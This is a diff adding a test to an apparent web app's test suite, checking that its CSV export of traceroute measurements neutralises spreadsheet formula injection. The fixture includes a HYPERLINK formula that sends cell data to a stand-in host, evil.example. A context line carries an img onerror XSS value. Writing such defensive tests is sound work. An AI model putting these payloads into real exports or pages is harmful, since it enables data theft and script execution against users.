@@ -156,6 +156,29 @@ describe("pages escape what they display", () => {
     expect(csv[3]).toContain(`"""><img src=x onerror=alert(2)>"`);
   });
 
+  it("the CSV export writes formula-looking names and PoP ids as text a spreadsheet will not run", () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
+    const m: MeasurementView = {
+      id: "m2",
+      target: "198.18.9.2",
+      status: "done",
+      options,
+      created: "2026-11-23T07:00:00.000Z",
+      traces: [
+        trace("t1", "-fra", "198.18.9.2", [
+          hop(1, "198.18.1.1", { name: formula }),
+          hop(2, "198.18.9.2", { name: "@SUM(1+1)" }),
+        ]),
+      ],
+    };
+    const [, first, second] = csvExport(m).trimEnd().split("\n");
+    expect(first).toMatch(/^"'-fra",/);
+    expect(first).toContain(`,1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",`);
+    expect(second).toContain(`,2,"'@SUM(1+1)",`);
+    // Nothing in the file starts a cell with a formula character outside a quoted, '-prefixed text.
+    for (const line of [first, second]) expect(line).not.toMatch(/(^|,)[=+\-@]/);
+  });
+
   it("a path test shows the verdict on top, the route map, both directions and hostile names as text", () => {
     const t = pathTest();
     const html = render(<PathTestPage test={t} agents={agents} />);
